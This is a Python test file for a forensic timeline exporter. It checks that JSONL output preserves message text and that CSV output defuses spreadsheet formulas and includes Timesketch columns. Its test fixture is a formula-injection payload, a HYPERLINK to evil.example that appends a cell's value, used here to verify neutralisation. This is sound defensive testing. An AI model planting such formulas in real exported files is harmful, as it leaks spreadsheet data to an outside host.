import csv
import io
import json
from datetime import datetime, timezone

from cyberevidence.events import Attachment, Event, SourceRef
from cyberevidence.exporters import TIMELINE_CSV_COLUMNS, write_timeline_csv, write_timeline_jsonl

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def sample() -> Event:
    return Event(
        timestamp=datetime(2025, 10, 26, 1, 5, 0, 250_000, tzinfo=timezone.utc),
        platform="whatsapp",
        kind="message",
        source=SourceRef("b" * 64, "line 9"),
        sender="-Mark",
        text=HOSTILE,
        thread="chat",
        attachments=[Attachment("IMG-1.jpg", "c" * 64, "image/jpeg")],
        event_id="d" * 32,
    )


def test_jsonl_keeps_text_exactly() -> None:
    out = io.StringIO()
    write_timeline_jsonl([sample()], out)
    rec = json.loads(out.getvalue())
    assert rec["text"] == HOSTILE
    assert rec["timestamp"] == "2025-10-26T01:05:00.250Z"
    assert rec["seen_in"] == [{"sha256": "b" * 64, "locator": "line 9"}]


def test_csv_defuses_formulas_and_has_timesketch_columns() -> None:
    out = io.StringIO()
    write_timeline_csv([sample()], out, tz=timezone.utc)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert tuple(rows[0]) == TIMELINE_CSV_COLUMNS
    assert rows[0]["text"] == "'" + HOSTILE
    assert rows[0]["sender"] == "'-Mark"
    assert rows[0]["datetime"] == "2025-10-26T01:05:00.250Z"
    assert rows[0]["attachments"] == f"IMG-1.jpg ({'c' * 64})"


def test_email_subject_has_its_own_csv_column() -> None:
    import csv
    import io
    from datetime import datetime, timezone

    from cyberevidence.events import Event, SourceRef
    from cyberevidence.exporters.timeline import write_timeline_csv

    ev = Event(
        timestamp=datetime(2025, 3, 1, tzinfo=timezone.utc),
        platform="email",
        kind="email",
        source=SourceRef("a" * 64, "message[0]"),
        sender="mark@example.net",
        text="body",
        extra={"subject": '=HYPERLINK("x")'},
    )
    out = io.StringIO()
    write_timeline_csv([ev], out, tz=timezone.utc)
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["subject"] == '\'=HYPERLINK("x")'  # formula defused
    assert row["message"] == '[email email] mark@example.net: =HYPERLINK("x") | body'
